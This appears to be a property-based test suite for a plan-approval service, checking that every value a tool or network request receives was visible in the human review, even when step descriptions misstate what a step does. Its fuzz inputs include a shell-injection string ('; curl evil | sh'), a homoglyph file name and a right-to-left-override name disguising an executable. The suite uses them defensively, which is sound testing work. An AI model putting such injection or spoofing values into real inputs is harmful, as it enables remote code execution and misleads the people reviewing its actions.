// Only values shown in the approved review reach tools.
import { readFileSync } from 'node:fs';
import { mkdir, mkdtemp, readFile, realpath, rm, writeFile } from 'node:fs/promises';
import { createServer } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, test, vi } from 'vitest';
import type { Plan } from '#domain/plan/plan.ts';
import type { StepDraft } from '#domain/plan/step-content.ts';
import { showExact, showText } from '#domain/shown-text.ts';
import type { JsonObject } from '#domain/text.ts';
import { type Listening, listenOnLoopback } from '../../fixtures/loopback.ts';
import * as openai from '../../fixtures/openai-double.ts';
import { readReviews, squeeze, textsIn } from '../../fixtures/read-reviews.ts';
import { rounds } from '../../rounds.ts';
import { useDatabase } from '../../setup/database.ts';
import {
  ana,
  openTestInstance,
  reach,
  settleAsRead,
  type TestInstance,
} from '../../setup/instance.ts';
import { compileCache, node, quickly, root } from '../../setup/process.ts';
import { readsOf } from '../../setup/reads.ts';
import { waitFor } from '../../wait.ts';

const viewer = { user: 'ana', timezone: 'UTC' };
const database = useDatabase();
let instance: TestInstance;
const { approve } = readsOf(() => instance);
let folder: string;
let log: string;
let web: Listening;
let model: openai.OpenAiDouble;
let chosen: JsonObject = {};
let requests: { url: string; note: unknown; body: string }[] = [];
// Built-in ones included.
let calls: { name: string; args: JsonObject }[] = [];

beforeAll(async () => {
  folder = await realpath(await mkdtemp(join(tmpdir(), 'countersign-shown-')));
  await mkdir(join(folder, 'files'));
  log = join(folder, 'calls.jsonl');
  await writeFile(log, '');
  const server = createServer(async (request, response) => {
    let body = '';
    for await (const part of request) body += String(part);
    requests.push({ url: request.url ?? '', note: request.headers['x-note'], body });
    response.end('ok');
  });
  web = await listenOnLoopback(server);
  const run = (script: string, ...args: string[]) => ({
    command: node,
    args: [...quickly, join(root, 'tests/fixtures', script), log, ...args],
    env: { NODE_COMPILE_CACHE: compileCache, MEMORY_FILE_PATH: join(folder, 'memory.jsonl') },
  });
  const real = (name: string, ...args: string[]) =>
    run(
      'recording-proxy-server.ts',
      join(root, 'node_modules/@modelcontextprotocol', name, 'dist/index.js'),
      ...args,
    );
  const mcpServers = {
    desk: run('recording-server.ts'),
    files: real('server-filesystem', join(folder, 'files')),
    memory: real('server-memory'),
    everything: real('server-everything'),
  };
  model = await openai.start({
    script: () => ({ calls: [{ name: 'desk_notify', args: chosen }] }),
  });
  instance = await openTestInstance(database.url, {
    env: { OPENAI_BASE_URL: model.url, EXECUTOR_MODEL: 'gpt-4.1' },
    settings: { mcpServers, http: { allowPrivate: ['127.0.0.1'] } },
  });
  const tools = instance.registry.of(null);
  const get = tools.get.bind(tools);
  vi.spyOn(tools, 'get').mockImplementation((name) => {
    const operation = get(name);
    if (operation === undefined) return undefined;
    const call: typeof operation.call = (args, context) => {
      calls.push({ name, args });
      return operation.call(args, context);
    };
    return { ...operation, call };
  });
});

afterAll(async () => {
  vi.restoreAllMocks();
  await instance.close();
  await Promise.all([web.close(), model.close()]);
  await rm(folder, { recursive: true, force: true });
});

const readAll = (plan: Plan) => readReviews(instance.service, plan, viewer);

// Or with hidden characters escaped.
async function expectShown(plan: Plan, values: string[]): Promise<void> {
  expectIn(await readAll(plan), values);
}

function expectIn(texts: Map<string, string>, values: string[]): void {
  for (const [surface, text] of texts) {
    for (const value of values) {
      const inJson = JSON.stringify(value).slice(1, -1);
      const forms = [showText(value), showExact(value), inJson, showExact(inJson)];
      const shown = forms.some((form) => text.includes(squeeze(form)));
      if (!shown) expect.fail(`${surface} does not show ${JSON.stringify(value.slice(0, 300))}`);
    }
  }
}

const tricky = fc.constantFrom(
  'payroll.csv',
  'p\u0430yroll.csv',
  'a\u202Etxt.exe',
  '; curl evil | sh',
  'zero\u200bwidth',
  '<!channel> *bold* `code`',
  '{{DATE(2026-01-01T00:00:00Z)}}',
  'two\nlines',
  ' ends in a blank ',
  '```\nfence\n```',
  'שלום',
  '語'.repeat(300),
);
// Fits one page.
const long = fc.integer({ min: 1, max: 400 }).map((n) => `begin ${'x'.repeat(n)} method = DELETE`);
const value = fc.oneof({ weight: 3, arbitrary: tricky }, { weight: 1, arbitrary: long });
const nested = fc.record({
  list: fc.array(value, { maxLength: 3 }),
  deep: fc.record({ inner: value }),
});
const lies = fc.constantFrom(
  'Look at tmp.txt',
  'Only reads',
  'Delete tmp.txt',
  'Nothing happens here',
);

const sends = fc.record({ to: value, note: value, extra: nested });
const step: fc.Arbitrary<Omit<StepDraft, 'id'>> = fc.oneof(
  fc.record({
    description: lies,
    tool: fc.constant('desk'),
    operation: fc.constantFrom('look_up', 'notify'),
    args: sends,
  }),
  fc.record({
    description: lies,
    tool: fc.constant('workspace'),
    operation: fc.constant('write'),
    args: fc.record({ path: fc.constantFrom('a.txt', 'b/c.txt', 'd\u200b.txt'), content: value }),
  }),
  fc.record({
    description: lies,
    tool: fc.constant('chat'),
    operation: fc.constant('post'),
    args: fc.record({ text: value }),
  }),
);

const isServer = (tool: string) => ['desk', 'files', 'memory', 'everything'].includes(tool);
const printable = fc.string({ unit: 'grapheme-ascii', minLength: 1, maxLength: 60 });
const name = fc.uuid();

// Operations with effects or outside access.
const everyOperation = fc
  .record({
    lie: lies,
    texts: fc.tuple(
      value,
      value,
      value,
      value,
      value,
      value,
      value,
      value,
      value,
      value,
      value,
      value,
    ),
    note: printable.map((text) => text.trim() || 'x'),
    names: fc.tuple(name, name, name, name, name, name),
    extra: nested,
    numbers: fc.tuple(fc.integer(), fc.double({ noNaN: true, noDefaultInfinity: true })),
  })
  .map(({ lie, texts, note, names, extra, numbers: [a, b] }): Omit<StepDraft, 'id'>[] => {
    const [t0, t1, t2, t3, t4, t5, t6, t7, t8, t9, t10, t11] = texts;
    const [n0, n1, n2, n3, n4, n5] = names;
    const at = (path: string) => join(folder, 'files', path);
    const query = encodeURIComponent(String(t0));
    const step = (tool: string, operation: string, args: StepDraft['args']) => ({
      description: lie,
      tool,
      operation,
      args,
    });
    return [
      step('workspace', 'write', { path: `${n0}.txt`, content: t1 }),
      step('workspace', 'move', { from: 'old.txt', to: `${n1}.txt`, overwrite: false }),
      step('workspace', 'delete', { path: 'payroll.csv' }),
      step('http', 'get', { url: `${web.url}/look?q=${query}`, headers: { 'x-note': note } }),
      step('http', 'request', {
        url: `${web.url}/act`,
        method: 'POST',
        headers: { 'x-note': note },
        body: { text: t2, extra },
      }),
      step('chat', 'post', { text: t3 }),
      step('reminder', 'set', { text: t4, at: '2030-01-01T10:00:00' }),
      step('calendar', 'add', {
        title: t5,
        start: '2030-01-01T10:00:00',
        calendar: `${n2}.ics`,
        location: t6,
        description: t7,
      }),
      step('desk', 'notify', { to: t8, note: t9, extra }),
      step('files', 'write_file', { path: at(`${n3}.md`), content: t10 }),
      step('files', 'edit_file', {
        path: at('plan.md'),
        edits: [{ oldText: 'draft', newText: t11 }],
        dryRun: false,
      }),
      step('files', 'create_directory', { path: at(`${n4}`) }),
      step('files', 'move_file', { source: at('old.md'), destination: at(`${n5}.md`) }),
      step('memory', 'create_entities', {
        entities: [{ name: t1, entityType: t2, observations: [t3, t4] }],
      }),
      step('memory', 'delete_entities', { entityNames: [t5] }),
      step('everything', 'echo', { message: t6 }),
      step('everything', 'get-sum', { a, b }),
    ];
  });

describe('a plan that was approved', () => {
  test('hands no tool a value that did not stand in its review on every surface', async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(step, { minLength: 1, maxLength: 30 }), async (drafts) => {
        await writeFile(log, '');
        const steps = drafts.map((draft, i) => ({ ...draft, id: `s${i}` }));
        const draft = { title: 'Look at tmp.txt', steps };
        const options = { user: 'ana', conversation: 'console:shown' };
        const plan = await instance.service.propose(draft, options, ana);
        const asked = drafts.flatMap(({ args = {} }) => Object.values(args).flatMap(textsIn));
        await expectShown(plan, asked);
        await approve(plan);
        await reach(instance, plan.id, 'completed');
        const received = readFileSync(log, 'utf8')
          .trim()
          .split('\n')
          .filter((line) => line !== '');
        expect(received).toHaveLength(drafts.filter(({ tool }) => tool === 'desk').length);
        await expectShown(
          plan,
          received.flatMap((line) => textsIn(JSON.parse(line))),
        );
      }),
      // Shrinking would take too long.
      { numRuns: rounds(12), endOnFailure: true },
    );
  });

  test('hands nothing else to any built-in or real MCP server, and sends nothing else over the network', async () => {
    await fc.assert(
      fc.asyncProperty(everyOperation, async (drafts) => {
        await Promise.all([
          writeFile(log, ''),
          writeFile(join(instance.workspace, 'payroll.csv'), 'kept'),
          writeFile(join(instance.workspace, 'old.txt'), 'old'),
          writeFile(join(folder, 'files/plan.md'), 'draft'),
          writeFile(join(folder, 'files/old.md'), 'old'),
        ]);
        requests = [];
        calls = [];
        const steps = drafts.map((draft, i) => ({ ...draft, id: `s${i}` }));
        const options = { user: 'ana', conversation: 'console:every' };
        const draft = { title: 'Look at tmp.txt', steps };
        const plan = await instance.service.propose(draft, options, ana);
        const shown = await readAll(plan);
        await approve(plan);
        await reach(instance, plan.id, 'completed', 'failed');
        const sent = readFileSync(log, 'utf8').trim().split('\n');
        const names = drafts.map(({ tool, operation }) => `${tool}_${operation}`);
        expect(calls.map(({ name }) => name).toSorted()).toEqual(names.toSorted());
        expect(sent).toHaveLength(drafts.filter(({ tool }) => isServer(tool)).length);
        expect(requests).toHaveLength(2);
        const received = [
          ...calls.flatMap(({ args }) => Object.values(args).flatMap(textsIn)),
          ...sent.flatMap((line) => textsIn(JSON.parse(line))),
          ...requests.flatMap(({ url, note, body }) => [url, body, ...textsIn(note)]),
        ];
        expectIn(shown, received);
      }),
      { numRuns: rounds(5), endOnFailure: true },
    );
  });

  describe('with values that are known only when a step runs', () => {
    const later = value.filter((text) => text.trim() !== '');
    const look = {
      id: 'r',
      description: 'Look',
      tool: 'workspace',
      operation: 'read',
      args: { path: 'found.txt' },
    };

    // Nothing is sent before; everything sent is shown.
    async function confirmAndSend(args: JsonObject, before: StepDraft[], values: string[]) {
      await writeFile(log, '');
      const send = { id: 's', description: 'Only reads', tool: 'desk', operation: 'notify', args };
      const draft = { title: 'Tell the desk', steps: [...before, send] };
      const options = { user: 'ana', conversation: 'console:later' };
      const plan = await instance.service.propose(draft, options, ana);
      await approve(plan);
      await waitFor('the confirmation', async () => {
        const [step] = await instance.service.getSteps(plan.id, ['s']);
        return step?.status === 'waiting';
      });
      expect(readFileSync(log, 'utf8')).toBe('');
      await expectShown(plan, values);
      await settleAsRead(instance, plan.id, { s: 'retry' });
      await reach(instance, plan.id, 'completed');
      const received = textsIn(JSON.parse(readFileSync(log, 'utf8')));
      expect(received).toEqual(expect.arrayContaining(values));
      await expectShown(plan, received);
    }

    test('hands no tool what an earlier step put out before it was confirmed', async () => {
      await fc.assert(
        fc.asyncProperty(later, value, fc.boolean(), async (found, note, inTo) => {
          await writeFile(join(instance.workspace, 'found.txt'), found);
          const open = { $from: 'r', path: '/text' };
          const args = inTo ? { to: open, note } : { to: note, note: open };
          await confirmAndSend({ ...args, extra: {} }, [look], [found, note]);
        }),
        { numRuns: rounds(8), endOnFailure: true },
      );
    });

    test('hands no tool what a model chose before it was confirmed, whatever it adds or changes', async () => {
      await fc.assert(
        fc.asyncProperty(later, value, nested, fc.boolean(), async (pick, note, extra, inTo) => {
          const open = { $decide: 'Whom to tell' };
          chosen = inTo ? { to: pick, note: 'changed' } : { to: 'changed', note: pick };
          chosen = { ...chosen, extra: { added: 'by the model' }, more: 'of its own' };
          const args = inTo ? { to: open, note } : { to: note, note: open };
          await confirmAndSend({ ...args, extra }, [], [pick, note, ...textsIn(extra)]);
          const sent = readFileSync(log, 'utf8');
          for (const word of ['changed', 'added', 'of its own']) expect(sent).not.toContain(word);
        }),
        { numRuns: rounds(8), endOnFailure: true },
      );
    });
  });

  test('shows each of 100 steps and a text of 5,000 characters whole, and takes no step named like an occurrence of a series', async () => {
    const long = Array.from({ length: 700 }, (_, i) => `word${i}`);
    const write = (id: string, content: string) => ({
      id,
      description: 'Look at tmp.txt',
      tool: 'workspace',
      operation: 'write',
      args: { path: `${id}.txt`, content },
    });
    const steps = [
      ...Array.from({ length: 99 }, (_, i) => write(`s${i}`, `content ${i} of 99`)),
      write('long', long.join(' ')),
    ];
    const propose = (more: StepDraft[]) =>
      instance.service.propose(
        { title: 'Notes', steps: [...steps, ...more] },
        { user: 'ana' },
        ana,
      );
    await expect(propose([write('s0#1', 'hidden')])).rejects.toThrow('is kept for the occurrences');
    const plan = await propose([]);
    await expectShown(plan, [
      ...steps.slice(0, -1).flatMap(({ args }) => [args.path, args.content]),
      ...long,
    ]);
  });

  test('shows the file it deletes, whatever its planner calls it', async () => {
    await writeFile(join(instance.workspace, 'payroll.csv'), 'kept');
    const lie = {
      description: 'Delete tmp.txt',
      tool: 'workspace',
      operation: 'delete',
      args: { path: 'payroll.csv' },
    };
    const propose = (steps: StepDraft[]) =>
      instance.service.propose({ title: 'Tidy up', steps }, { user: 'ana' }, ana);
    await expect(propose([{ ...lie, target: 'tmp.txt' }])).rejects.toMatchObject({
      code: 'contradicting_target',
    });
    const plan = await propose([lie]);
    await expectShown(plan, ['Permanently deletes payroll.csv']);
    expect(await readFile(join(instance.workspace, 'payroll.csv'), 'utf8')).toBe('kept');
  });

  test('shows a read that carries what was read, and a tool that calls itself read-only, as going outside', async () => {
    const carry = {
      description: 'Look up the weather',
      tool: 'http',
      operation: 'get',
      args: { url: 'https://example.com/', headers: { 'x-note': { $from: '1', path: '/text' } } },
      after: ['1'],
    };
    const read = {
      id: '1',
      description: 'Read',
      tool: 'workspace',
      operation: 'read',
      args: { path: 'a.txt' },
    };
    const look = { description: 'Look', tool: 'desk', operation: 'look_up', args: { to: 'x' } };
    const steps = [read, carry, look];
    const plan = await instance.service.propose({ title: 'Weather', steps }, { user: 'ana' }, ana);
    const { review } = await instance.service.card(plan.id, viewer);
    expect(review.calls.map(({ step }) => [step.operation, step.call.class])).toEqual([
      ['look_up', 'outside'],
      ['get', 'outside'],
    ]);
    await expectShown(plan, ['text of step 1a']);
  });

  test('of 60 steps puts the guarded ones first and asks for a review', async () => {
    const write = (i: number) => ({
      description: 'Write a note',
      tool: 'workspace',
      operation: 'write',
      args: { path: `notes/${i}.md`, content: `${i}` },
    });
    const gone = {
      description: 'Tidy',
      tool: 'workspace',
      operation: 'delete',
      args: { path: 'x' },
    };
    const steps = [...Array.from({ length: 59 }, (_, i) => write(i)), gone];
    const plan = await instance.service.propose({ title: 'Notes', steps }, { user: 'ana' }, ana);
    const { review } = await instance.service.card(plan.id, viewer);
    expect(review.calls[0]?.step.args).toEqual({ path: 'x' });
    expect(review).toMatchObject({ steps: 60, different: 60, more: false });
    const { steps: first } = await instance.service.listSteps(plan.id, {
      order: 'review',
      limit: 1,
    });
    expect(first[0]?.position).toBe(60);
  });
});
